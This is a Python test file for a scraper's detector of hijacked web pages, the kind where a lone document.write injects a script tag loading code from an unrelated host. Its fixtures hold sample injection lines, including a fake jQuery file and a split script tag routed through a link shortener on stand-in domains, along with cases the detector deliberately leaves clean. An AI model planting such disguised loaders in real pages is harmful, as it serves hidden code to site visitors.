"""A script that is nothing but document.write(ln) of constant strings making one <script src> tag at
the root of a host nothing else of the page names loads code the page's markup hides (issue 11,
v37b §1 B1/B2: rc37b-004 writes ".../jquery.web.js" from a host no library lives on, rc37b-014/-015
a split "<scr"+"ipt" tag through a link shortener). A vendor's written tag names the account it
serves (a query, an account path), a site's own written file lies on its own host, and a host the
page names elsewhere is the page's: those stay clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.scripts import constant_written_load
from tests.clean.conftest import kinds
from tests.clean.test_structural import URL, page


def _with(script: str, top: str = "") -> bytes:
    return page(body="<p>3月15日，区政府召开专题会议，研究部署今年城乡环境综合整治工作，区长主持会议并讲话。</p>"
                     "<p>会议指出，城乡环境综合整治是一项民心工程，各街道、各部门要对照任务清单，细化工作措施。</p>"
                     f"<script>{script}</script>", top=top)


def test_a_written_library_named_file_from_an_unnamed_host_flags_the_page():
    script = "document.writeln(\"<script src=\\'https://js.ab.example-lib.cn/jquery.web.js\\'><\\/script>\");"
    a = clean_page(_with(script), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert "会议指出" in a.text


def test_a_split_tag_written_through_a_short_link_flags_the_page():
    script = 'document.write("<scr"+"ipt language=javascript src=http://s.example-short.cn/R5hXq2Lp></scr"+"ipt>");'
    a = clean_page(_with(script), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings


def test_written_tags_naming_an_account_or_a_named_host_stay_clean():
    for script in (
        # a vendor's tag with the site's account in its query or path
        'document.write("<script src=\'//c.tagvendor.example.com/s/cs.js?p=22507\'></script>");',
        'document.write("<script src=\'http://content.rms-vendor.example.com/rms/mother/5722/nodetag.js\'></script>");',
        # an ad server's tag with its slot in the path
        "document.write('<script src=\"http://ad.adserver.example.net/adj/site.news/sports;sz=300x250\"></script>');",
        # the site's own stats script
        "document.write('<script src=\"https://www.qingshan.gov.cn/tj.js\"></script>');",
    ):
        a = clean_page(_with(script), url=URL)
        assert not a.hijacked, (script, a.findings)
    # a root file on a host the page links elsewhere (its own CDN, a vendor it credits)
    top = '<a href="https://www.gov-cloud.example.cn/">技术支持</a>'
    a = clean_page(_with("document.write('<script src=\"https://s.gov-cloud.example.cn/w.js\"></script>');", top), url=URL)
    assert not a.hijacked, a.findings


def test_only_a_bare_constant_write_of_one_tag_is_read():
    assert constant_written_load("document.write('<script src=\"https://x.example.org/a.js\"></script>');") \
        == "https://x.example.org/a.js"
    for code in (
        "var u='https://x.example.org/a.js';document.write('<script src=\"'+u+'\"></script>');",  # computed
        "document.write('<script src=\"https://x.example.org/a.js\"></script><p>hi</p>');",  # more than one tag
        "document.write('<script src=\"https://x.example.org/a.js?id=7\"></script>');",  # a query
        "document.write('<script src=\"/a.js\"></script>');",  # relative: the page's own
        "document.write('<img src=\"https://x.example.org/a.gif\">');",
    ):
        assert constant_written_load(code) is None, code
